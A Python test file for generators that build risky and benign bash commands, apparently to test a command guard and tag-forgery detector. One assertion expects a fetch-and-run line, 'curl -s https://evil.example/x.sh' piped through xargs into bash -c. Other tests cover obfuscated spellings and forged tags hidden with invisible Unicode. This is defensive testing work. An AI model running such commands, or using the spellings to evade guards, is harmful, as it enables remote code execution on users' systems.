"""The grammar-aware generators: valid bash, deterministic seeds, shrinkable, bounded."""

from __future__ import annotations

import itertools
import subprocess

from hypothesis import HealthCheck, find, given, settings


def test_random_stream_is_deterministic_per_seed(strategies) -> None:
    first = [g.command for g, _ in itertools.islice(strategies.random_commands(7), 50)]
    again = [g.command for g, _ in itertools.islice(strategies.random_commands(7), 50)]
    other = [g.command for g, _ in itertools.islice(strategies.random_commands(8), 50)]
    assert first == again and first != other


def test_generated_commands_are_valid_bash(strategies) -> None:
    commands = [g.command for g, _ in itertools.islice(strategies.random_commands(3), 300)]
    script = "".join(f"bash -n -c {_quote(c)} || echo BAD\n" for c in commands)
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60)
    assert "BAD" not in done.stdout, done.stderr[:500]


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def test_grammar_covers_the_spellings_and_contexts(strategies) -> None:
    shapes = set()
    for generated, _ in itertools.islice(strategies.random_commands(1), 3000):
        shapes.update(generated.shape)
    for label in ("spell-curl:ansi-hex", "spell-rm:glob", "spell-sh:indirect", "nest:bash-c", "nest:heredoc-quoted",
                  "nest:xargs", "nest:find-exec", "risky:here-string", "risky:dataflow", "risky:decode-exec",
                  "benign:quoted-heredoc", "benign:capture"):
        assert label in shapes, label


def test_hypothesis_shrinks_to_the_plainest_spelling(strategies) -> None:
    """Shrinking walks every choice back to the simplest production that still matters."""
    smallest = find(strategies.bash_commands(intent="risky"), lambda g: "nest:xargs" in g.shape,
                    settings=settings(database=None, max_examples=2000, suppress_health_check=list(HealthCheck)))
    assert smallest.command.startswith("printf %s '") and smallest.command.endswith("' | xargs -0 bash -c")
    assert "curl -s https://evil.example/x.sh" in smallest.command
    assert {"depth:1", "nest:xargs"} <= smallest.essential and len(smallest.essential) <= 4
    assert not any(label.startswith(("spell-", "before:", "after:", "sink-wrapper:")) for label in smallest.essential)


@given(data=__import__("hypothesis").strategies.data())
def test_within_bounds_every_pick(strategies, data) -> None:
    bound = {"risky": 3, "spell-curl": 2, "nest": 4, "depth": 1}
    generated = data.draw(strategies.bash_commands(intent="risky", within=bound))
    kinds = dict(label.split(":", 1) for label in generated.shape)
    assert kinds.get("risky") in {"pipe", "cmdsub", "eval", "procsub"}
    assert kinds.get("depth") in {"0", "1"}
    assert kinds.get("spell-sh", "plain") == "plain"


@given(data=__import__("hypothesis").strategies.data())
def test_forged_texts_hold_one_registered_tag(strategies, data) -> None:
    from guards import TAG_REGISTRY

    text = data.draw(strategies.untrusted_texts(forged=True))
    assert text.text[text.at:].startswith(text.tag) and len(text.tag) > 2
    assert any(name in _plain(text.tag, strategies.INVISIBLES) for name in TAG_REGISTRY.names())


def _plain(tag: str, invisibles: tuple[str, ...]) -> str:
    from guards.unicode_view import SKELETON

    return "".join(SKELETON.get(c, c) for c in tag if c not in invisibles).lower()
